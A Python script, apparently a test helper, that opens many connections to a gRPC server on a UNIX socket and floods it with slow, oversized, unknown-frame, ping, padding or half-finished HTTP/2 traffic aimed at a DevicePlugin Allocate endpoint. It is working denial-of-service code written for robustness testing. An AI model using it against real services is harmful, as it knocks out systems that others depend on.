#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""usage: attack_unix.py SOCKET KIND N: keeps N connections to a gRPC server on a UNIX socket and reopens closed ones. Depending on KIND,
each connection sends nothing, sends a text repeatedly as fast as the server reads it, or sends one byte every 0.5 s. Prints "ready"
to stdout after N connections have been opened; ends when stdin is closed."""
import contextlib
import select
import socket
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


# HEADERS of POST /v1beta1.DevicePlugin/Allocate, whose stream stays open for DATA; HPACK without Huffman codes
HEAD = frame(1, 4, 1, b"\x83\x86\x04\x1f/v1beta1.DevicePlugin/Allocate".replace(b"\x1f", b"\x1e") + b"\x0f\x10\x10application/grpc")
KINDS = {  # the client sends the first text once, then the second repeatedly; True: one byte of the second every 0.5 s
    "silent": (b"", b"", False),
    "slow": (b"", PREFACE, True),
    "huge": (PREFACE, b"\xff\xff\xff\x00\0\0\0\0\1" + b"x" * 65536, False),
    "unknown": (PREFACE, frame(0xbb, 0, 0) * 5000, False),
    "padding": (PREFACE, frame(0xbb, 0, 0, b"x" * 16384) * 4, False),
    "pings": (PREFACE, frame(6, 0, 0, b"y" * 8) * 3000, False),
    "half": (PREFACE + HEAD + frame(0, 0, 1, b"\0\0\x0f\xff\xff"), b"z", True),  # a message that is never completed
}


def main():
    path, kind, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
    start, more, is_slow = KINDS[kind]
    poll = select.epoll()
    poll.register(0, select.EPOLLIN)
    live, opened, ready, last = {}, 0, False, time.monotonic()

    def drop(fd):
        poll.unregister(fd)
        live.pop(fd)[0].close()

    while True:
        for _ in range(200):
            if len(live) >= n:
                break
            s = socket.socket(socket.AF_UNIX)
            s.setblocking(False)
            try:
                s.connect(path)
            except OSError:  # the backlog is full
                s.close()
                break
            live[s.fileno()] = [s, start, 0]
            poll.register(s, select.EPOLLIN | select.EPOLLOUT)
            opened += 1
        for fd, event in poll.poll(0.02):
            if fd == 0:
                return
            one = live[fd]
            try:
                if event & select.EPOLLOUT:
                    if one[1]:
                        one[1] = one[1][one[0].send(one[1]):]
                    elif more and not is_slow:
                        one[1] = more
                    else:
                        poll.modify(fd, select.EPOLLIN)
                if event & (select.EPOLLHUP | select.EPOLLERR) or (event & select.EPOLLIN and not one[0].recv(65536)):
                    raise ConnectionResetError
            except BlockingIOError:
                pass
            except OSError:
                drop(fd)
        if is_slow and time.monotonic() - last > 0.5:
            last = time.monotonic()
            for one in live.values():
                with contextlib.suppress(OSError):  # the next poll() reports the error
                    one[0].send(more[one[2] % len(more):][:1])
                    one[2] += 1
        if not ready and opened >= n:
            ready = True
            print("ready", flush=True)


main()
